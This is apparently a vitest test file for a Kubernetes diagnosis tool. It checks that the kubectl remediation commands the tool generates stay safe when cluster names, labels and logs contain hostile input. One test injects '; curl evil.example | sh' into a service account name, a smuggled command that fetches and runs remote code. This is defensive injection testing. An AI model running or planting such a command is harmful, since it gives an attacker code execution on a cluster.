import { describe, expect, it } from 'vitest';
import type { Command } from '#lib/kubernetes/commands.ts';
import { diagnose } from './index.ts';
import { CASES } from './testing/cases.ts';
import { FAULTS } from './testing/faults.ts';
import { commandsOf, harmIn, hostileCopies } from './testing/hostile.ts';
import { WINDOW } from './testing/snapshots.ts';

const SNAPSHOTS = [...Object.values(CASES).map(({ snapshot }) => snapshot), ...FAULTS.map(([, snapshot]) => snapshot)];
/** `HOSTILE_COPIES=500 npx vitest run --project unit lib/rca/hostile` is the long run. */
const COPIES = Number(process.env.HOSTILE_COPIES ?? 20);

describe('a command of a diagnosis', () => {
  it('is read by a shell as the words it was made of', () => {
    const commands = SNAPSHOTS.flatMap((snapshot) => commandsOf(snapshot, WINDOW));
    expect(commands.length).toBeGreaterThan(150);
    expect(harmIn(commands)).toEqual([]);
  });

  it('runs nothing else, whatever the names, labels, log lines and events of the cluster are', () => {
    const options = new Set(SNAPSHOTS.flatMap((snapshot) => commandsOf(snapshot, WINDOW).flatMap(optionsOf)));
    const hostile = SNAPSHOTS.flatMap((snapshot, seed) =>
      hostileCopies(snapshot, WINDOW, COPIES, seed).flatMap((copy) => commandsOf(copy, WINDOW)),
    );
    expect(hostile.length).toBeGreaterThan(1_000);
    expect(harmIn(hostile)).toEqual([]);
    expect(
      hostile.flatMap(optionsOf).filter((option) => !options.has(option)),
      'no name becomes an option',
    ).toEqual([]);
  });

  it('of a service account that the API refused names it only if its name is one', () => {
    const user = 'system:serviceaccount:shop:cart';
    const forbidden = FAULTS.map(([, snapshot]) => snapshot).find(({ logs }) => JSON.stringify(logs).includes(user))!;
    expect(linesOf(forbidden)).toContain(`kubectl auth can-i --list --as=${user} -n shop`);
    const attack = JSON.parse(JSON.stringify(forbidden).replaceAll(user, `${user}; curl evil.example | sh`)) as typeof forbidden;
    const lines = linesOf(attack);
    expect(diagnose(attack, WINDOW).causes[0]?.code).toBe('rbac.forbidden');
    expect(lines.length).toBeGreaterThan(0);
    expect(lines.join('\n')).not.toMatch(/curl|can-i/);
  });
});

const linesOf = (snapshot: Parameters<typeof diagnose>[0]) =>
  diagnose(snapshot, WINDOW).causes.flatMap(({ remedies }) => remedies.flatMap(({ command }) => command ?? []));

/** The options of a command, without their values. */
function optionsOf({ pipeline }: Command): string[] {
  return pipeline.flatMap(([program, ...words]) =>
    words.filter((word) => word.startsWith('-')).map((word) => `${program} ${word.split('=')[0]}`),
  );
}
